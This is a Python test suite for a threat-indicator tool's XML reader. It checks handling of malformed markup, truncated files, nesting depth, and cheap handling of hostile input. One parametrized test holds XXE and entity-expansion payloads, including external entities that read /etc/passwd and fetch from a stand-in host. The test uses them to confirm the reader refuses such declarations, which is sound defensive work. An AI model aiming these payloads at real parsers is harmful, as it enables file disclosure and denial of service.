"""XML that is not well-formed, and XML that attacks its reader."""

import io
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from perito.indicators.formats.xml_events import Damage, End, Start, Text, events
from perito.indicators.formats.xml_trees import DEEPEST, Element, trees
from tests.indicators.formats.claims import claims, problems

ITEM = '<IndicatorItem condition="is"><Context search="Network/DNS"/><Content>{}</Content></IndicatorItem>'


def read(text: str) -> list[object]:
    return list(events(io.BytesIO(text.encode())))


def test_names_lose_their_prefix_and_entities_of_xml_are_resolved():
    assert read('<a:b x:c="1&amp;2" xsi:type="n:T" type="U">&lt;&#65;&#x42;&gt;</a:b>') == [
        Start("b", {"c": "1&2", "xsi:type": "n:T", "type": "U"}, 1, closed=False),
        Text("<AB>"),
        End("b"),
    ]


def test_comments_and_instructions_are_passed_over_and_cdata_is_text():
    assert read("<?xml version='1.0'?>\n<!-- <a> --><a><![CDATA[<b>&amp;]]></a>") == [
        Start("a", {}, 2, closed=False),
        Text("<b>&amp;"),
        End("a"),
    ]


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE ioc [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE ioc SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE ioc [<!ENTITY % x SYSTEM "http://bad.example/x">%x;]>',
        '<!doctype ioc [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_a_declaration_of_entities_ends_the_reading(declaration):
    text = f"<?xml version='1.0'?>{declaration}<ioc>{ITEM.format('&b;.example')}</ioc>"
    assert claims(text) == []
    ((_, reason),) = problems(text)
    assert reason == "a document type declaration, which is refused; nothing from here on was read"


def test_an_entity_that_nobody_declared_stays_as_it_stands_and_is_told():
    text = f"<ioc>{ITEM.format('&secret;.example')}</ioc>"
    assert claims(text) == [("domain", "&secret;.example")]
    assert [reason for _, reason in problems(text)] == ["an entity that XML does not define; it was left as it stands"]


def test_what_is_not_well_formed_is_told_and_the_rest_is_read():
    text = f"""<ioc xmlns:="https://lab.example">
<p>one < two</p><q></r>
{ITEM.format("a.example")}<oops "{ITEM.format("b.example")}
"""
    assert claims(text) == [("domain", "a.example"), ("domain", "b.example")]
    assert problems(text) == [
        ("line 1", "not well-formed: the name of an attribute"),
        ("line 2", "a < that begins no tag"),
        ("line 2", "not well-formed: </r> does not close what was opened last"),
        ("line 3", "a < that begins no tag"),
    ]


def test_a_file_that_ends_inside_an_item_gives_what_was_there():
    text = '<ioc><IndicatorItem condition="is"><Context search="Network/DNS"/><Content>a.example'
    assert claims(text) == [("domain", "a.example")]
    assert problems(text) == [("line 1", "the file ends inside this element, which was read as it is")]


def test_depth_has_an_end():
    found = list(trees(io.BytesIO(b"<a>" * 100_000), {"z"}))
    assert found == [Damage(1, f"nested deeper than {DEEPEST}; the rest was not read", "", fatal=True)]


@pytest.mark.parametrize(
    "text",
    [
        "<" * 300_000,
        '<a b="' * 100_000,
        "<!--" * 200_000,
        "&#" * 300_000,
        "<a " * 200_000,
        "</" * 200_000,
        "<a>&x;" * 9_000,
    ],
)
def test_hostile_text_costs_little_and_stops(text):
    began = time.process_time()
    assert len(list(events(io.BytesIO(text.encode())))) <= 20_000
    assert time.process_time() - began < 20


def test_a_tag_across_the_edge_of_what_is_read_at_once():
    fill = "x" * ((1 << 20) - 20)
    found = [
        one for one in events(io.BytesIO(f'<a>{fill}<b c="{"y" * 50_000}"/></a>'.encode())) if isinstance(one, Start)
    ]
    assert [(one.name, len(one.attributes.get("c", ""))) for one in found] == [("a", 0), ("b", 50_000)]


@given(st.text(alphabet="<>/ab\"'=&;!-[]? \n", max_size=200))
def test_any_text_is_read_without_another_exception(text):
    for one in trees(io.BytesIO(text.encode()), {"a"}):
        assert isinstance(one, (Element, Damage))


@given(st.binary(max_size=200))
def test_any_bytes_are_read_without_another_exception(data):
    list(events(io.BytesIO(data)))
